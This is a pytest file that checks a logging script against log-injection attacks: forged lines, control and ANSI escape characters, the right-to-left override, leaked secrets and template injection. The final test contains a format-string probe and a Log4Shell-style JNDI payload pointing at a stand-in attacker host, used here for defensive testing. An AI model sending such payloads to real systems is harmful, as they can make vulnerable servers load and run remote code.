"""Attacks on the log: nothing of a stranger becomes a line, a command of the terminal, or a secret on record."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

PROCESS = Path(__file__).with_name("logging_process.py")
SECRET = "hunter2hunter2hunter2"
# A value of 8 kB, a trace of 32 kB; JSON writes one sign outside ASCII as six characters.
LONGEST_VALUE, LONGEST_LINE = 8 * 1024 + 1, 128 * 1024
LINES = 15 * 4 + 1


def logged(kind):
    done = subprocess.run([sys.executable, PROCESS, kind], check=True, capture_output=True, timeout=60)
    assert done.stderr == b""
    return done.stdout.decode()


@pytest.fixture(scope="module")
def json_log():
    return logged("json")


@pytest.fixture(scope="module")
def terminal_log():
    return logged("terminal")


def texts(value):
    if isinstance(value, dict):
        for key, item in value.items():
            yield from (key, *texts(item))
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)
    elif isinstance(value, str):
        yield value


@pytest.mark.attack("H08")
def test_every_event_is_one_line_of_json(json_log):
    lines = json_log.splitlines()
    assert len(lines) == LINES
    assert {type(json.loads(line)) for line in lines} == {dict}
    assert all(len(line) < LONGEST_LINE for line in lines)


@pytest.mark.attack("H08")
def test_no_value_is_longer_than_it_may_be_or_holds_a_control_character(json_log):
    for line in json_log.splitlines():
        event = json.loads(line)
        trace = event.pop("exception", "").replace("\n", "")
        values = list(texts(event))
        assert all(len(value) <= LONGEST_VALUE for value in values)
        assert all(ord(c) >= 32 and not 0x7F <= ord(c) < 0xA0 and c != "\u202e" for c in trace.join(["", *values]))


def test_a_trace_names_the_error_and_no_variable(json_log, terminal_log):
    traces = [json.loads(line).get("exception", "") for line in json_log.splitlines()]
    assert sum("ValueError" in trace for trace in traces) == 30
    assert "local =" not in json_log
    assert "locals" not in terminal_log


@pytest.mark.attack("H09")
def test_no_credential_is_on_record_under_any_name_or_in_any_text(json_log, terminal_log):
    assert SECRET not in json_log
    assert SECRET not in terminal_log
    assert "[hidden]" in json_log


@pytest.mark.attack("H08")
def test_a_terminal_is_sent_its_own_colours_and_nothing_else(terminal_log):
    plain = terminal_log
    for code in ("0", "1", "2", "31", "32", "33", "34", "35", "36", "1;31", "31;1"):
        plain = plain.replace(f"\x1b[{code}m", "")
    assert not [c for c in plain if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e"]
    assert "[info] forged" not in [line[-13:] for line in plain.splitlines() if line.startswith("2026-11-22 [info]")]


@pytest.mark.attack("H08")
def test_what_only_looks_like_a_template_is_written_as_it_came(json_log):
    values = [json.loads(line).get("value") for line in json_log.splitlines()]
    assert "%s %n {0} {x.__class__}" in values
    assert "${jndi:ldap://evil.example/a}" in values
